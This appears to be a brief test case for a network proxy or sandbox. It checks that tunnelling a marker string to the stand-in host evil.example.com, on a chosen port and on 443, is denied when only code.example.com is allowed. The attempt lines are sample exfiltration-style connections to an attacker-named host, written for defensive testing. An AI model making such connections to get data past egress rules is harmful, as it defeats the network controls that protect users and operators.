# reach a host that no rule names
proxy=1
setup() { sink tcp && pass PORT && allow code.example.com; }
attempt() { tunnel "evil.example.com:$PORT" "$MARK\n" '?'; tunnel "evil.example.com:443" "$MARK\n" '?'; }
held() { denied; }
